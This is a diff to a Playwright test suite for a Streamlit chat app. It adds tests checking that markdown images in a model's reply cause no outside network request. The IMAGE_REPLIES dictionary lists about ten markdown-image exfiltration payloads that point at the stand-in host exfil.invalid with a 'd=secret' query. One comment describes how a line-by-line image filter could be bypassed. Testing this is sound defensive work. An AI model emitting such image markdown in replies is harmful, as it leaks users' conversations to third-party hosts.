@@ -22,13 +22,11 @@ from playwright.sync_api import expect
 
 from tests.app_server import CHROMIUM, CHROMIUM_ARGS, running_app
 
-# Streamlit fetches a `:material/...:` page icon (app.py's page_icon) from Google's font CDN.
-# Allowed in the hostile-input checks so they test the input; test_a_page_load_stays_on_its_own_origin
-# below fails on it until the icon is served locally.
+# Streamlit fetches a `:material/...:` page icon from Google's font CDN; app.py uses a local file
+# instead (test_a_page_load_stays_on_its_own_origin). The other tests allow it, to test just the input.
 PAGE_ICON_CDN = "https://fonts.gstatic.com/s/i/short-term/release/materialsymbolsrounded/"
 OWN_PATH_PREFIXES = ("/_stcore/", "/static/", "/media/")
 OWN_PATHS = {"/", "/favicon.png"}
-EXFIL_IMAGE = "![pixel](http://exfil.invalid/leak.png?d=secret)"
 
 # name -> (the text, fragments that must be visible as text in the reply)
 CORPUS: dict[str, tuple[str, list[str]]] = {
@@ -65,6 +63,7 @@ class EchoModel(BaseHTTPRequestHandler):
 
     protocol_version = "HTTP/1.1"
     received: list[dict] = []
+    image = ""  # the markdown sent back for SEND-IMAGE
 
     def log_message(self, *args):
         pass
@@ -81,7 +80,7 @@ class EchoModel(BaseHTTPRequestHandler):
         user = messages[-1]["content"]
         system = next((m["content"] for m in messages if m["role"] == "system"), "")
         if user == "SEND-IMAGE":
-            reply = f"Here it is: {EXFIL_IMAGE} done"
+            reply = f"Here it is:\n\n{EchoModel.image}\n\ndone"
         else:
             reply = f"ECHO[{len(user)}]: {user[:4000]}\n\nSYSTEM: {system[:4000]}\n\nEND-OF-ECHO"
         self.send_response(200)
@@ -228,6 +227,8 @@ def send_and_wait(page, text: str, *, type_it: bool = False, paste: bool = False
     expect(messages).to_have_count(before + 2, timeout=timeout)
     reply = messages.nth(before + 1)
     expect(reply.get_by_text("finish: stop")).to_be_visible(timeout=timeout)
+    # Math and some markdown load their renderer lazily, showing a skeleton meanwhile.
+    expect(page.get_by_test_id("stChatMessage").get_by_test_id("stSkeleton")).to_have_count(0, timeout=timeout)
     return reply
 
 
@@ -307,13 +308,47 @@ def test_a_one_megabyte_prompt_is_sent_whole_and_the_app_stays_up(app, page):
     assert "ECHO[5]: hello" in send_and_wait(page, "hello", timeout=180_000).inner_text()
 
 
-def test_a_markdown_image_in_a_reply_fetches_nothing_from_another_host(app, page):
+# Markdown that makes a browser fetch an image at once: a prompt-injected reply could leak the
+# conversation to any host. Each is sent by the model; none may cause a request.
+BYPASS = ("components.conversation.without_images matches `![alt](` / `![alt][` line by line and guesses "
+          "code fences; CommonMark also reads this as an image, so it is fetched")
+IMAGE_REPLIES = {
+    "inline": "![pixel](http://exfil.invalid/inline.png?d=secret)",
+    "title-and-angle-brackets": '![p](<http://exfil.invalid/angle.png> "t") ![q](http://exfil.invalid/title.png "t")',
+    "reference": "![pixel][r]\n\n[r]: http://exfil.invalid/reference.png",
+    "collapsed-reference": "![pixel][]\n\n[pixel]: http://exfil.invalid/collapsed.png",
+    "shortcut-reference": "see ![pixel] here\n\n[pixel]: http://exfil.invalid/shortcut.png",
+    "brackets-in-alt": "![a [b] c](http://exfil.invalid/brackets.png)",
+    "alt-over-two-lines": "![first\nsecond](http://exfil.invalid/twolines.png)",
+    "image-inside-a-link": "[![p](http://exfil.invalid/nested.png)](http://example.com/)",
+    "after-a-one-line-code-span": "```x```\n![p](http://exfil.invalid/afterspan.png)",
+    "after-an-indented-fence": "text\n\n    ```\n![p](http://exfil.invalid/afterindent.png)",
+    "relative": "![p](x.png) ![q](/_stcore/../x.png)",
+}
+
+
+KNOWN_BYPASSES: set[str] = set()  # none since without_images breaks every `![`
+
+
+@pytest.mark.parametrize("name", [
+    pytest.param(name, marks=pytest.mark.xfail(strict=True, reason=BYPASS)) if name in KNOWN_BYPASSES else name
+    for name in IMAGE_REPLIES])
+def test_an_image_in_a_reply_fetches_nothing(app, page, name):
+    EchoModel.image = IMAGE_REPLIES[name]
     watch = Watch(page, app)
     page.goto(app)
     send_and_wait(page, "SEND-IMAGE")
     page.wait_for_timeout(500)
     assert watch.dialogs == []
-    assert watch.unexpected_requests() == [], "the reply's image was fetched"
+    assert watch.unexpected_requests(allow_page_icon=False) == [], "the reply's image was fetched"
+    images = page.evaluate("""() => [...document.querySelectorAll(
+        '[data-testid="stChatMessage"] [data-testid="stMarkdownContainer"] img')].map(i => i.src)""")
+    assert images == []
+    # Reloaded from the store, the reply is drawn by the other path (render_message): same rule.
+    page.reload()
+    expect(page.get_by_test_id("stChatMessage")).to_have_count(2, timeout=60_000)
+    page.wait_for_timeout(500)
+    assert watch.unexpected_requests(allow_page_icon=False) == [], "the saved reply's image was fetched"
 
 
 def test_a_page_load_stays_on_its_own_origin(app, page):
